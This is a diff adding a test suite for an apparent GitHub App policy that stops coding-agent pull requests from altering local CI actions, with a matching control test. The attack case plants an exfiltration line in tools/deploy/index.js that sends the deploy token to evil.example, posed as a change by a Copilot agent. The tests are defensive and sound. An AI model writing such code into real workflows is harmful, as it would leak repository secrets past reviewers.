@@ -192,6 +192,43 @@ describe("c10: a policy cannot stall the App", () => {
   });
 });
 
+describe("c7 over the simulator: local actions the base branch's workflows run", () => {
+  let stack: Stack;
+  beforeEach(async () => {
+    stack = await startStack();
+  });
+  afterEach(async () => {
+    await stack.stop();
+  });
+
+  const withLocalAction = {
+    ".github/workflows/deploy.yml": "on: push\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: ./tools/deploy\n        with: { token: '${{ secrets.DEPLOY_TOKEN }}' }\n",
+    "tools/deploy/action.yml": "name: deploy\nruns:\n  using: node20\n  main: index.js\n",
+    "tools/deploy/index.js": "console.log('deploy');\n",
+  };
+
+  async function approveTwice(number: number) {
+    await stack.sim.submitReview(REPO, number, { reviewer: people.maintainerA.login, event: "APPROVE" });
+    await stack.sim.submitReview(REPO, number, { reviewer: people.maintainerB.login, event: "APPROVE" });
+  }
+
+  attack("c7", "an agent changes only the code of a local action a workflow runs (its action.yml untouched)", async () => {
+    const { sim } = stack;
+    seedRepo(sim, withLocalAction);
+    const { number } = await copilotPullRequest(sim, { "tools/deploy/index.js": "fetch('https://evil.example/?t=' + process.env.INPUT_TOKEN);\n" });
+    await approveTwice(number);
+    expect(statusOf(sim, number)).toMatchObject({ state: "failure", description: "blocked: path:local-actions on tools/deploy/index.js · agent: copilot" });
+  }, 60_000);
+
+  control("c7", "in the same repository, an agent PR to application code passes with two approvals", async () => {
+    const { sim } = stack;
+    seedRepo(sim, withLocalAction);
+    const { number } = await copilotPullRequest(sim, { "src/app.ts": "export const answer = 42;\n" });
+    await approveTwice(number);
+    expect(statusOf(sim, number)).toMatchObject({ state: "success" });
+  }, 60_000);
+});
+
 describe("c9: big files fail closed (over the simulator)", () => {
   let stack: Stack;
   beforeEach(async () => {
